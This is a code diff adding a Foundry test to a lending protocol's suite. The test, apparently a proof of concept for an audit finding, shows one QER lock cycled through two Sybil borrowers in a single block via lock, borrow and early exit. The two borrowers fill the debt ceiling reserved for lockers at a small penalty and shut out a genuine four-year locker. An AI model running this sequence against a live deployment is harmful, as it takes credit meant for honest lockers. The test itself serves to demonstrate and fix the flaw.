@@ -55,6 +55,54 @@ contract LockerPerkTest is LendingBase {
         vm.stopPrank();
     }
 
+    function _lockFor(address who, uint256 amount, uint256 duration) internal {
+        vm.startPrank(who);
+        qer.approve(address(locker), amount);
+        locker.createLock(amount, duration);
+        vm.stopPrank();
+    }
+
+    /// @dev One 10,000 QER lock, cycled through two Sybil borrowers in one block at the shortest lock (end at the
+    /// second boundary after now, 896,000 s away): each lock, draw into the reserved part, exits early.
+    function test_Exploit_perkCycledAcrossSybilsAtTheShortestLock() public {
+        address dave = makeAddr("dave");
+        address erin = makeAddr("erin");
+        // ceil(10,000 QER x 50% x 896,000 s / 208 weeks) = 35.6125... QER per exit.
+        uint256 penalty = 35_612_535_612_535_612_536;
+        _giveQer(carol, PERK_THRESHOLD);
+        _lockFor(carol, PERK_THRESHOLD, 2 weeks);
+        assertEq(locker.lockOf(carol).end - block.timestamp, 896_000, "the shortest lock");
+        _addCollateral(carol, 2_000 ether);
+        _borrow(carol, 1_000e6);
+        vm.prank(carol);
+        locker.exitEarly();
+        assertEq(qer.balanceOf(carol), PERK_THRESHOLD - penalty, "carol's lock back less the penalty");
+
+        // The same tokens, topped up by the penalty, give dave the perk in the same block.
+        vm.prank(carol);
+        qer.transfer(dave, PERK_THRESHOLD - penalty);
+        _giveQer(dave, penalty);
+        _lockFor(dave, PERK_THRESHOLD, 2 weeks);
+        _addCollateral(dave, 2_000 ether);
+        _borrow(dave, 1_000e6);
+        vm.prank(dave);
+        locker.exitEarly();
+
+        assertEq(cm.debtOf(carol) + cm.debtOf(dave), 2_000e6, "the whole reserved part drawn");
+        assertEq(vault.totalBorrowed(), 10_000e6, "ceiling full");
+        assertEq(locker.totalLocked(), 0, "nothing left locked");
+        assertEq(qer.balanceOf(dave), PERK_THRESHOLD - penalty, "total cost of two perks: 2 x 35.61 QER");
+
+        // A genuine 4-year locker is now shut out of the part reserved for lockers.
+        _giveQer(erin, PERK_THRESHOLD);
+        _lockFor(erin, PERK_THRESHOLD, 208 weeks);
+        assertTrue(perks.hasAccess(erin, FEATURE), "erin holds the perk");
+        _addCollateral(erin, 2_000 ether);
+        vm.prank(erin);
+        vm.expectRevert(abi.encodeWithSelector(ICreditManager.DebtCeilingExceeded.selector, 10_100e6, 10_000e6));
+        cm.borrow(100e6, 0, block.timestamp);
+    }
+
     function test_lockerPerk_wiring() public view {
         ICreditManager.LockerPerk memory p = cm.lockerPerk();
         assertEq(p.perks, address(perks), "registry");
